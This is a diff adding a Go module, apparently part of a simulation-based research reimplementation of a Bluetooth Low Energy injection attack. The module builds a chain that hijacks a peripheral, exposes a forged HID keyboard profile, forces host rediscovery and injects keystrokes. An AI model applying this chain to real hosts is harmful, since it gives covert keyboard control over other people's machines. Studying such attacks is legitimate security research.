@@ -1,0 +1,50 @@
+package injectable
+
+import (
+	"fmt"
+
+	"injectable/internal/devices"
+	"injectable/internal/sim"
+)
+
+// KeystrokeInjection is the paper's §IX future-work attack, realised:
+// after hijacking the slave role (scenario B), the attacker indicates
+// Service Changed, exposes a HID-over-GATT keyboard profile in place of
+// the original device, waits for the host to attach to it — as every HID
+// host automatically does — and types.
+type KeystrokeInjection struct {
+	Hijack   *SlaveHijack
+	Keyboard *devices.Keyboard
+
+	sched *sim.Scheduler
+}
+
+// InjectKeyboard performs the full chain: slave hijack with a forged
+// keyboard profile, Service Changed indication, then availability to Type.
+func (a *Attacker) InjectKeyboard(deviceName string, done func(*KeystrokeInjection, error)) error {
+	kbd := devices.NewKeyboardProfile(deviceName)
+	return a.HijackSlave(kbd.GATT, func(h *SlaveHijack, err error) {
+		if err != nil {
+			done(nil, err)
+			return
+		}
+		ki := &KeystrokeInjection{Hijack: h, Keyboard: kbd, sched: a.Stack.Sched}
+		// Invalidate the host's GATT cache: it will rediscover, find the
+		// keyboard, and (being a HID host) subscribe to its reports.
+		kbd.IndicateServiceChanged()
+		done(ki, nil)
+	})
+}
+
+// Attached reports whether the host has subscribed to keystroke reports.
+func (ki *KeystrokeInjection) Attached() bool { return ki.Keyboard.Subscribed() }
+
+// Type injects keystrokes, pacing the key-down/key-up reports so each
+// rides its own connection event.
+func (ki *KeystrokeInjection) Type(text string) error {
+	if !ki.Attached() {
+		return fmt.Errorf("injectable: host has not subscribed to the keyboard yet")
+	}
+	ki.Keyboard.Type(text)
+	return nil
+}
